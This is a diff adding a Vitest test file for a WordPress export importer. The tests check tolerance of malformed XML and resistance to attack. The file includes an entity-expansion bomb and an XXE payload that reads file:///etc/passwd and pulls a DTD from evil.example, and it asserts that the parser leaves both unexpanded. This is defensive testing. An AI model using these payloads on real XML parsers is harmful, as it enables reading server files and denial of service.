@@ -1,0 +1,194 @@
+import { describe, expect, it } from 'vitest';
+import { readWordpress } from '../../../../api/imports/formats/wordpress.ts';
+import { readImport } from '../../../support/import-reading.ts';
+import { item, wxr } from '../../../support/wordpress-exports.ts';
+
+const titles = (reading: { posts: { title: string }[] }) => reading.posts.map((post) => post.title);
+
+describe('a broken export', () => {
+  it('keeps a post with an unclosed tag', async () => {
+    const two = item(2, 'Two', { extra: '<wp:broken><b>no end</wp:broken>' });
+    const reading = await readImport(readWordpress, wxr(item(1, 'One'), two, item(3, 'Three')));
+    expect(titles(reading)).toEqual(['One', 'Two', 'Three']);
+    expect(reading.posts[1]?.content).toBe('<p>Text</p>');
+    expect(reading.problems).toEqual([]);
+  });
+
+  it.each([1, 2, 3])('keeps every post when item %i is not closed', async (open) => {
+    const items = ['One', 'Two', 'Three'].map((title, index) => item(index + 1, title));
+    items[open - 1] = items[open - 1]?.replace('</item>', '') ?? '';
+    const reading = await readImport(readWordpress, wxr(...items));
+    expect(titles(reading)).toEqual(['One', 'Two', 'Three']);
+    expect(reading.problems).toEqual([]);
+  });
+
+  it('loses only the post whose CDATA section runs into the next one', async () => {
+    const reading = await readImport(
+      readWordpress,
+      wxr(
+        item(1, 'One'),
+        item(2, 'Two').replace(']]></content:encoded>', '</content:encoded>'),
+        item(3, 'Three'),
+      ),
+    );
+    expect(titles(reading)).toEqual(['One', 'Three']);
+    expect(reading.problems).toHaveLength(1);
+    expect(reading.problems[0]).toContain('of line 7, “Two”, is left out');
+  });
+
+  it.each([
+    ['inside a tag', 40],
+    ['inside text', 130],
+    ['right after a post', 0],
+  ])('keeps the posts before the end of a file cut off %s', async (_where, back) => {
+    const whole = wxr(item(1, 'One'), item(2, 'Two'));
+    const end = whole.lastIndexOf('</item>') + (back === 0 ? 7 : -back);
+    const reading = await readImport(readWordpress, whole.slice(0, end));
+    expect(titles(reading)).toEqual(back === 0 ? ['One', 'Two'] : ['One']);
+    expect(reading.problems).toHaveLength(1);
+    expect(reading.problems[0]).toMatch(/^Line 7: the file ends .+ to have the rest\.$/);
+  });
+
+  it('skips a broken tag between posts', async () => {
+    const reading = await readImport(readWordpress, wxr(item(1, 'One'), '<wp:tag <b', item(2, 'Two')));
+    expect(titles(reading)).toEqual(['One', 'Two']);
+    expect(reading.problems).toEqual([]);
+  });
+
+  it('reports at most 50 problem positions, then a count', async () => {
+    const items = Array.from({ length: 60 }, (_, index) =>
+      item(index, `Post ${index}`).replace(']]></content:encoded>', '</content:encoded>'),
+    );
+    const reading = await readImport(readWordpress, wxr(...items, item(99, 'Last')));
+    expect(titles(reading)).toEqual(['Last']);
+    expect(reading.problems).toHaveLength(51);
+    expect(reading.problems[50]).toBe('10 more places could not be read.');
+  });
+
+  it('loses only the posts with too many or too deeply nested elements', async () => {
+    const reading = await readImport(
+      readWordpress,
+      wxr(
+        item(1, 'One', { extra: '<a>'.repeat(500_000) + '</a>'.repeat(500_000) }),
+        item(2, 'Two', { extra: '<a/>'.repeat(500_000) }),
+        item(3, 'Three'),
+      ),
+    );
+    expect(titles(reading)).toEqual(['Three']);
+    expect(reading.problems).toEqual([
+      'Line 6: there are elements nested more than 1,000 deep in one. The article of line 6, “One”, is left out; reading went on with the next one.',
+      'Line 7: there are more than 500,000 elements in one. The article of line 7, “Two”, is left out; reading went on with the next one.',
+    ]);
+  });
+
+  it('loses only the post over the size limit and reports the limit', async () => {
+    const reading = await readImport(
+      readWordpress,
+      wxr(item(1, 'One'), item(2, 'Giant', { content: 'x'.repeat(21 * 1024 * 1024) }), item(3, 'Three')),
+    );
+    expect(titles(reading)).toEqual(['One', 'Three']);
+    expect(reading.problems).toHaveLength(1);
+    expect(reading.problems[0]).toContain('more than 20 MB belong together');
+    expect(reading.problems[0]).toContain('“Giant”');
+  });
+});
+
+describe('the lenient XML reader', () => {
+  it('keeps stray ampersands and angle brackets, and drops control characters', async () => {
+    const { posts, problems } = await readImport(
+      readWordpress,
+      wxr(
+        item(1, 'x', {
+          title: '<title>Fish & chips &nbsp;&amp;amp; 1 < 2 &copy; \u0003&#8211; &#x1F600; &#11;end</title>',
+          content: 'a\u0008b\u000bc',
+          link: 'https://blog.example/?a=1&b=2',
+        }),
+      ),
+    );
+    expect(posts[0]?.title).toBe('Fish & chips & 1 < 2 © – 😀 end');
+    expect(posts[0]?.content).toBe('abc');
+    expect(posts[0]?.url).toBe('https://blog.example/?a=1&b=2');
+    expect(problems).toEqual([]);
+  });
+
+  it('joins CDATA split around its own terminator', async () => {
+    const { posts } = await readImport(
+      readWordpress,
+      wxr(item(1, 'x', { content: 'if (a[b[0]]]]><![CDATA[> c) &amp;' })),
+    );
+    expect(posts[0]?.content).toBe('if (a[b[0]]> c) &amp;');
+  });
+
+  it.each(['<pre>a[b[0]]></pre><p>more]]> text</p>', 'x ]]> y'])(
+    'keeps an unescaped CDATA terminator as text, as old exporters write it: %s',
+    async (content) => {
+      const { posts, problems } = await readImport(
+        readWordpress,
+        wxr(item(1, 'x', { content }), item(2, 'y')),
+      );
+      expect(posts.map((post) => post.content)).toEqual([content, '<p>Text</p>']);
+      expect(problems).toEqual([]);
+    },
+  );
+
+  it('ignores PHP warnings before the root and text after it', async () => {
+    const { posts, problems } = await readImport(
+      readWordpress,
+      `\n<br />\n<b>Warning</b>: Cannot modify header <i>x</i>\n${wxr(item(1, 'One'))}\n<p>done & dusted`,
+    );
+    expect(posts.map((post) => post.title)).toEqual(['One']);
+    expect(problems).toEqual([]);
+  });
+
+  it('reads any namespace version, or none', async () => {
+    const plain = wxr(item(1, 'One'));
+    const variants = [
+      plain.replaceAll('export/1.2/', 'export/1.0/'),
+      plain.replaceAll('export/1.2/', 'export/1.1/'),
+      plain.replace(/ xmlns:[a-z]+="[^"]*"/g, ''),
+    ];
+    for (const variant of variants) {
+      const { posts } = await readImport(readWordpress, variant);
+      expect(posts.map((post) => [post.source_id, post.status, post.content])).toEqual([
+        ['1', 'published', '<p>Text</p>'],
+      ]);
+    }
+  });
+});
+
+describe('the XML parser', () => {
+  const bomb = `<!DOCTYPE rss [\n<!ENTITY lol "lol">\n${Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n || ''};`.repeat(10)}">`).join('\n')}\n]>`;
+
+  it('leaves an entity bomb unexpanded', async () => {
+    const { posts, problems } = await readImport(
+      readWordpress,
+      wxr(item(1, 'x', { title: '<title>Big &lol9; bang</title>' })).replace('<rss', `${bomb}\n<rss`),
+    );
+    expect(posts[0]?.title).toBe('Big &lol9; bang');
+    expect(problems).toEqual([]);
+  });
+
+  it('reads no file for an external entity', async () => {
+    const { posts, problems } = await readImport(
+      readWordpress,
+      wxr(item(1, 'x', { title: '<title>Users: &xxe;</title>' })).replace(
+        '<rss',
+        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n<rss',
+      ),
+    );
+    expect(posts[0]?.title).toBe('Users: &xxe;');
+    expect(problems).toEqual([]);
+  });
+});
+
+describe('a hostile file', () => {
+  it.each([
+    ['sections that never end', '<item><x><![CDATA[aaaa</item>\n'],
+    ['comments that never end', '<item><!-- aaa</item>\n'],
+  ])('with %s is abandoned after 1,000 problems', async (_what, part) => {
+    const { posts, problems } = await readImport(readWordpress, wxr(item(1, 'One'), part.repeat(900_000)));
+    expect(posts.map((post) => post.title)).toEqual(['One']);
+    expect(problems).toHaveLength(51);
+    expect(problems[50]).toBe('950 more places could not be read, and reading stopped there.');
+  });
+});
